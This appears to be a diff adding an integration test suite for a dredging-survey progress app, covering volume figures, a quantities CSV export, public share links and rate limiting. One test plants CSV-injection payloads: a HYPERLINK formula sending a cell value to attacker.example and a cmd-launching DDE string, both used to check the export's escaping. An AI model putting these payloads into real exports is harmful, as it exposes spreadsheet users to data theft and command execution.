@@ -1,0 +1,286 @@
+import { createReadStream, mkdtempSync, readFileSync } from "node:fs";
+import { rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { Readable } from "node:stream";
+import Papa from "papaparse";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { closeSequelize } from "../../db/connection.server";
+import { startsLikeFormula } from "../../shared/csv-safe";
+import { computeSurveyVolumes, type EngineSettings } from "../../shared/pipeline";
+import { workingDaysBetween, workingCalendar } from "../../shared/progress/working-days";
+import { bottomElevations, refusalElevations } from "../../shared/soundings/elevations";
+import { parseSoundingsCsv } from "../../shared/soundings/parse-csv";
+import { rollUpZones } from "../../shared/volumes/rollup";
+import { GRID, PROJECT, SURVEYS, WORK_LIMIT, ZONES } from "../../sample-data/scenario";
+import { Project, ShareLink, Survey, User, Zone } from "~/lib/db.server";
+import { importSurveyFile } from "~/lib/import/import-service.server";
+import { writeStagedFile } from "~/lib/import/stage-upload.server";
+import { loadProgress, type ProgressView } from "~/models/progress.server";
+import { presentProject, type ProjectView } from "~/models/project.server";
+import { loadQuantities, quantitiesCsv } from "~/models/quantities.server";
+import { PUBLIC_REQUESTS_PER_MINUTE, createShareLink, publicProgressForToken, publicRateLimit, revokeShareLink } from "~/models/share-links.server";
+import { hashLinkToken } from "~/lib/tokens.server";
+import * as shareLinksApi from "~/routes/api.projects.$projectId.share-links";
+import * as shareLinkApi from "~/routes/api.projects.$projectId.share-links.$token";
+import * as progressApi from "~/routes/api.projects.$projectId.progress";
+import { ORIGIN, addMember, makeUser, requestAs } from "./helpers";
+import { DEMO_DIR, makeDemoSiteProject, projectCrs } from "./import-helpers";
+import { polygonVertices, walkPublicValue, type PublicWalkRules } from "./progress-public-walk";
+
+// Progress figures of the demo scenario's five surveys, imported through the import path, against
+// the engine run directly on the same files (source: computed, the independent reference).
+
+process.env.UPLOAD_DIR = mkdtempSync(join(tmpdir(), "firmsand-progress-test-"));
+afterAll(closeSequelize);
+
+type DemoSurvey = (typeof SURVEYS)[number];
+
+const settings: EngineSettings = {
+  cellSize: GRID.cellSizeFt, resolution: GRID.rasterResolutionFt, maxEdge: GRID.maxTriangleEdgeFt,
+  originX: GRID.originEastingFt, originY: GRID.originNorthingFt, rotationDegrees: GRID.rotationDegrees,
+  tolerance: GRID.toleranceFt, firmShare: GRID.firmShare, minCoverage: GRID.minCoverage,
+  surveyNoise: GRID.toleranceFt, rasterPrecision: "float32",
+};
+
+/** The engine on the files directly (parse → elevations → pipeline), volumes in yd³ (27 ft³, NIST SP 811). */
+function engineOn(surveys: DemoSurvey[]) {
+  const crs = projectCrs();
+  const project = (coordinates: number[][][]) => coordinates.map((ring) => ring.map(([lon, lat]) => crs.fromLonLat(lon, lat)));
+  const points = surveys.map((survey) => {
+    const parsed = parseSoundingsCsv(readFileSync(join(DEMO_DIR, survey.fileName), "utf8"));
+    return { parsed, elevation: bottomElevations(parsed, survey.waterSurfaceElevationFt), refusal: refusalElevations(parsed, survey.waterSurfaceElevationFt) };
+  });
+  const [base, ...later] = points;
+  const result = computeSurveyVolumes(
+    {
+      baseline: { easting: base.parsed.easting, northing: base.parsed.northing, elevation: base.elevation },
+      firm: { easting: base.parsed.easting, northing: base.parsed.northing, elevation: base.refusal! },
+      progress: later.map(({ parsed, elevation }) => ({ easting: parsed.easting, northing: parsed.northing, elevation })),
+    },
+    [project(WORK_LIMIT.coordinates)],
+    settings,
+  );
+  const zones = rollUpZones(result.cellGrid, result.cells, ZONES.map((zone) => ({ id: zone.name, polygon: [project(zone.polygon.coordinates)] })));
+  const yd3 = (totals: { plannedVolume: number; removedVolume: number; remainingVolume: number; cells: number; cellsAtFirmSand: number }) => ({
+    plannedVolume: totals.plannedVolume / 27, removedVolume: totals.removedVolume / 27, remainingVolume: totals.remainingVolume / 27,
+    cells: totals.cells, cellsAtFirmSand: totals.cellsAtFirmSand,
+  });
+  return { total: yd3(result.totals), zones: new Map(zones.map((zone) => [zone.id, yd3(zone.totals)])) };
+}
+
+function expectClose(actual: number, expected: number, relative = 1e-9, label = "") {
+  expect(Math.abs(actual - expected), `${label} ${actual} vs ${expected}`).toBeLessThanOrEqual(Math.max(Math.abs(expected) * relative, 1e-6));
+}
+
+let site: Awaited<ReturnType<typeof makeDemoSiteProject>>;
+let project: ProjectView;
+let progress: ProgressView;
+let outreachId = 0;
+
+beforeAll(async () => {
+  site = await makeDemoSiteProject("progress");
+  project = presentProject(site.project);
+  const outreach = await makeUser("progress-outreach");
+  await addMember(outreach.id, project.id, "outreach");
+  outreachId = outreach.id;
+  for (const survey of SURVEYS) {
+    const staged = await writeStagedFile(Readable.toWeb(createReadStream(join(DEMO_DIR, survey.fileName))) as ReadableStream<Uint8Array>, survey.fileName);
+    const outcome = await importSurveyFile({
+      projectId: project.id, userId: site.users.surveyor, staged,
+      options: {
+        kind: survey.kind, surveyedOn: survey.surveyedOn, timeZone: PROJECT.timeZone, waterSurfaceElevation: survey.waterSurfaceElevationFt,
+        fileHasElevations: false, datum: PROJECT.verticalDatum, crs: PROJECT.crs, lengthUnit: PROJECT.lengthUnit, surveyOrder: "1a",
+      },
+      choices: { excludeRows: [], excludeErrorRows: false, outside: "keep", acceptSameFile: false },
+    });
+    await rm(staged.path, { force: true });
+    if (!outcome.ok) throw new Error(`${survey.fileName} refused: ${outcome.preview.blockers.join(" ")}`);
+  }
+  progress = await loadProgress(project);
+}, 600_000);
+
+describe("progress figures equal the engine on the same surveys", () => {
+  it("project totals", () => {
+    const direct = engineOn(SURVEYS);
+    expect(progress.volumeLabel).toBe("yd³"); // published: US survey feet projects report cubic yards (NIST SP 811)
+    expectClose(progress.total.plannedVolume, direct.total.plannedVolume, 1e-9, "planned"); // computed: engine on the files
+    expectClose(progress.total.removedVolume, direct.total.removedVolume, 1e-9, "removed"); // computed
+    expectClose(progress.total.remainingVolume, direct.total.remainingVolume, 1e-9, "remaining"); // computed
+    expect(progress.total.cells).toBe(direct.total.cells); // computed
+    expect(progress.total.cellsAtFirmSand).toBe(direct.total.cellsAtFirmSand); // computed: confirmed cells count as at firm sand
+    expect(progress.total.cellsConfirmed).toBeGreaterThan(0); // the closeout re-sounded the vent basin
+    expect(progress.total.lastSurveyOn).toBe("2026-11-24"); // the closeout's date
+    expect(progress.total.percentCompleteByVolume).toBeCloseTo((1 - direct.total.remainingVolume / direct.total.plannedVolume) * 100, 6); // computed
+  }, 120_000);
+
+  it("zone totals", () => {
+    const direct = engineOn(SURVEYS);
+    expect(progress.zones.map((zone) => zone.name)).toEqual(ZONES.map((zone) => zone.name));
+    for (const zone of progress.zones) {
+      const engine = direct.zones.get(zone.name)!;
+      expectClose(zone.plannedVolume, engine.plannedVolume, 1e-9, `${zone.name} planned`); // computed
+      expectClose(zone.removedVolume, engine.removedVolume, 1e-9, `${zone.name} removed`); // computed
+      expectClose(zone.remainingVolume, engine.remainingVolume, 1e-9, `${zone.name} remaining`); // computed
+      expect(zone.cells, zone.name).toBe(engine.cells); // computed
+      expect(zone.cellsAtFirmSand, zone.name).toBe(engine.cellsAtFirmSand); // computed
+    }
+    const vent = progress.zones.find((zone) => zone.name === "Vent basin")!;
+    expect(vent.cellsConfirmed).toBe(vent.cellsAtFirmSand); // the closeout confirmed every vent-basin cell at firm sand
+    expect(vent.lastSurveyOn).toBe("2026-11-24");
+    expect(progress.zones.find((zone) => zone.name === "Lower run")!.lastSurveyOn).toBe("2026-11-17");
+  }, 120_000);
+
+  it("the cumulative series: each survey date equals the engine on the surveys up to it", () => {
+    expect(progress.series.dates).toEqual(SURVEYS.map((survey) => survey.surveyedOn));
+    SURVEYS.forEach((survey, index) => {
+      const direct = engineOn(SURVEYS.slice(0, index + 1));
+      expectClose(progress.series.totalRemovedVolume[index], direct.total.removedVolume, 1e-6, survey.surveyedOn); // computed (snapshots keep float32 per cell, summed in float64)
+      for (const zone of progress.series.zones) expectClose(zone.removedVolume[index]!, direct.zones.get(zone.name)!.removedVolume, 1e-6, `${survey.surveyedOn} ${zone.name}`); // computed
+    });
+  }, 300_000);
+
+  it("production per working day and the forecast follow from the series", () => {
+    expect(progress.workingDayBasis).toBe("weekdays"); // no dive plans on this project
+    const weekdays = workingCalendar([]);
+    progress.production.forEach((interval, index) => {
+      expectClose(interval.removedVolume, progress.series.totalRemovedVolume[index + 1] - progress.series.totalRemovedVolume[index], 1e-12);
+      expect(interval.workingDays).toBe(workingDaysBetween(weekdays, interval.fromDate, interval.toDate));
+      expectClose(interval.volumePerWorkingDay!, interval.removedVolume / interval.workingDays, 1e-12);
+    });
+    // invariant: the intervals add up to the removal at the last survey
+    expectClose(progress.production.reduce((sum, interval) => sum + interval.removedVolume, 0), progress.total.removedVolume, 1e-6);
+    for (const zone of progress.zones) {
+      if (zone.forecast.state !== "forecast") continue;
+      // computed: the finish date is workingDaysLeft weekdays after the rate's last survey, and that many days at the rate clear what remains
+      expect(workingDaysBetween(weekdays, zone.forecast.rateToDate!, zone.forecast.finishDate!)).toBe(zone.forecast.workingDaysLeft);
+      expect(zone.forecast.workingDaysLeft! * zone.forecast.volumePerWorkingDay!).toBeGreaterThanOrEqual(zone.remainingVolume);
+    }
+    expect(progress.zones.find((zone) => zone.name === "Lower run")!.forecast.state).toBe("forecast"); // part way done on 2026-11-17
+    expect(progress.assumptions.join(" ")).toMatch(/weekdays/);
+  });
+
+  it("the JSON API gives the same figures to a viewer and refuses a non-member", async () => {
+    const response = (await progressApi.loader({ request: await requestAs(site.users.viewer, `/api/projects/${project.id}/progress`), params: { projectId: String(project.id) }, context: {} } as never)) as Response;
+    expect(response.status).toBe(200);
+    const body = (await response.json()) as ProgressView;
+    expect(body.total.removedVolume).toBe(progress.total.removedVolume);
+    const stranger = await makeUser("progress-stranger");
+    const refused = await progressApi.loader({ request: await requestAs(stranger.id, `/api/projects/${project.id}/progress`), params: { projectId: String(project.id) }, context: {} } as never).catch((error: unknown) => error);
+    expect((refused as Response).status).toBe(403);
+  });
+});
+
+describe("quantities CSV", () => {
+  it("zone and project totals match the figures and the cells add up to them", async () => {
+    const csv = quantitiesCsv(await loadQuantities(project), new Date("2026-12-01T00:00:00Z"));
+    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
+    expect(rows[1]).toEqual(["Project", project.name]);
+    const totalRow = rows.find((row) => row[0] === "Project total")!;
+    expect(Number(totalRow[2])).toBeCloseTo(progress.total.removedVolume, 2);
+    expect(Number(totalRow[3])).toBeCloseTo(progress.total.remainingVolume, 2);
+    const cellHeader = rows.findIndex((row) => row[0] === "cell");
+    const cellRows = rows.slice(cellHeader + 1);
+    expect(cellRows.length).toBe(progress.total.cells);
+    // computed: the cells' removed volumes (3 decimals each) add up to the project total
+    expect(cellRows.reduce((sum, row) => sum + Number(row[6]), 0)).toBeCloseTo(progress.total.removedVolume, 0);
+  });
+
+  it("escapes text that a spreadsheet would run as a formula (OWASP CSV injection)", async () => {
+    const zone = await Zone.findOne({ where: { projectId: project.id, name: "Lower run" } });
+    const hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"Lower run")';
+    await zone!.update({ name: hostile });
+    await Project.update({ name: "@SUM(1+1)*cmd|' /C calc'!A0" }, { where: { id: project.id } });
+    try {
+      const csv = quantitiesCsv(await loadQuantities(presentProject((await Project.findByPk(project.id))!)), new Date());
+      const fields = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
+      expect(fields).toContain(`'${hostile}`); // published: OWASP — prefix a single quote
+      expect(fields).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
+      // published: OWASP — no field may start with = + - @ tab or CR unless it is a number we wrote
+      const dangerous = fields.filter((field) => startsLikeFormula(field) && !Number.isFinite(Number(field)));
+      expect(dangerous).toEqual([]);
+    } finally {
+      await zone!.update({ name: "Lower run" });
+      await Project.update({ name: site.project.name }, { where: { id: project.id } });
+    }
+  });
+});
+
+describe("public share links", () => {
+  async function walkRules(): Promise<PublicWalkRules> {
+    const row = (await Project.findByPk(project.id))!;
+    const zones = await Zone.findAll({ where: { projectId: project.id } });
+    const people = await User.findAll({ attributes: ["name", "email"] });
+    const surveys = await Survey.findAll({ where: { projectId: project.id }, attributes: ["fileName"] });
+    return {
+      allowedVertices: [...polygonVertices(row.workLimitGeoJson!), ...zones.flatMap((zone) => polygonVertices(zone.polygonGeoJson))],
+      forbiddenStrings: [...people.flatMap((person) => [person.name, person.email]), ...surveys.map((survey) => survey.fileName)],
+      // practice: the demo site lies near (600,000 ; 1,680,000) ftUS; any number within 20,000 ft of that is a projected position
+      projectedExtent: { minX: GRID.originEastingFt - 20_000, maxX: GRID.originEastingFt + 20_000, minY: GRID.originNorthingFt - 20_000, maxY: GRID.originNorthingFt + 20_000 },
+    };
+  }
+
+  it("create → public view of allow-listed fields only → revoke → gone", async () => {
+    const outreach = (await User.findByPk(outreachId))!;
+    const created = await createShareLink(project, { id: outreach.id, name: outreach.name, email: outreach.email, isSiteAdmin: false } as never, { name: "County web page", publicText: "Muck removal in the spring run." }, ORIGIN, null);
+    expect(created.token).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 random bits, base64url
+    expect(created.url).toBe(`${ORIGIN}/share/${created.token}`);
+    const stored = await ShareLink.findOne({ where: { projectId: project.id, name: "County web page" } });
+    expect(stored!.tokenHash).toBe(hashLinkToken(created.token));
+    expect(JSON.stringify(stored!.toJSON())).not.toContain(created.token);
+
+    const view = await publicProgressForToken(created.token);
+    expect(view).not.toBeNull();
+    expect(Object.keys(view!).sort()).toEqual(["lastUpdated", "percentComplete", "projectName", "publicText", "removedVolume", "volumeLabel", "workLimit", "zones"]);
+    expect(view!.percentComplete).toBe(Math.round(progress.total.percentCompleteByVolume!));
+    expect(view!.zones.map((zone) => zone.name)).toEqual(ZONES.map((zone) => zone.name));
+    expect(walkPublicValue(view, await walkRules())).toEqual([]);
+
+    expect(await revokeShareLink(project, { id: outreach.id } as never, { token: created.token }, null)).toBe(true);
+    expect(await publicProgressForToken(created.token)).toBeNull();
+    expect(await revokeShareLink(project, { id: outreach.id } as never, { token: created.token }, null)).toBe(false);
+  });
+
+  it("the walk catches a leak (it can fail)", async () => {
+    const rules = await walkRules();
+    const view = await publicProgressForToken((await createShareLink(project, { id: outreachId } as never, { name: "probe", publicText: "" }, ORIGIN, null)).token);
+    const people = await User.findAll({ attributes: ["name"], limit: 1 });
+    // a cell centre of the grid in lon/lat: a position that is no vertex
+    const [lon, lat] = projectCrs().toLonLat(GRID.originEastingFt + 210, GRID.originNorthingFt + 130);
+    const leaky = { ...view, email: "x@example.org", publicText: `${people[0].name} logged the finds`, zones: [...view!.zones, { name: "x", percentComplete: 1, polygons: [[[[lon, lat]]]] }], easting: GRID.originEastingFt };
+    const problems = walkPublicValue(leaky, rules);
+    expect(problems.some((problem) => problem.includes("email: forbidden key"))).toBe(true);
+    expect(problems.some((problem) => problem.includes(people[0].name))).toBe(true);
+    expect(problems.some((problem) => problem.includes('"finds"'))).toBe(true);
+    expect(problems.some((problem) => problem.includes("not a work-limit or zone vertex"))).toBe(true);
+    expect(problems.some((problem) => problem.includes("projected coordinate"))).toBe(true);
+  });
+
+  it("the API: outreach POST 201 {token,url}, a viewer 403, DELETE 204 then the link is gone", async () => {
+    const path = `/api/projects/${project.id}/share-links`;
+    const post = async (userId: number) => {
+      const request = await requestAs(userId, path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: "Embed", publicText: "Hello" }) });
+      return (await shareLinksApi.action({ request, params: { projectId: String(project.id) }, context: {} } as never).catch((error: unknown) => error)) as Response;
+    };
+    const created = await post(outreachId);
+    expect(created.status).toBe(201);
+    const body = (await created.json()) as { token: string; url: string };
+    expect(Object.keys(body).sort()).toEqual(["token", "url"]);
+    expect((await post(site.users.viewer)).status).toBe(403);
+    expect(await publicProgressForToken(body.token)).not.toBeNull();
+    const request = await requestAs(outreachId, `${path}/${body.token}`, { method: "DELETE" });
+    const deleted = (await shareLinkApi.action({ request, params: { projectId: String(project.id), token: body.token }, context: {} } as never)) as Response;
+    expect(deleted.status).toBe(204);
+    expect(await publicProgressForToken(body.token)).toBeNull();
+    const again = (await shareLinkApi.action({ request: await requestAs(outreachId, `${path}/${body.token}`, { method: "DELETE" }), params: { projectId: String(project.id), token: body.token }, context: {} } as never)) as Response;
+    expect(again.status).toBe(404);
+  });
+
+  it("limits public requests per address per minute", () => {
+    const start = 1_000_000;
+    for (let index = 0; index < PUBLIC_REQUESTS_PER_MINUTE; index++) expect(publicRateLimit("203.0.113.9", start + index)).toBeNull();
+    expect(publicRateLimit("203.0.113.9", start + 1000)).toBe(59);
+    expect(publicRateLimit("198.51.100.7", start + 1000)).toBeNull(); // another address has its own window
+    expect(publicRateLimit("203.0.113.9", start + 60_000)).toBeNull(); // a new window
+  });
+});
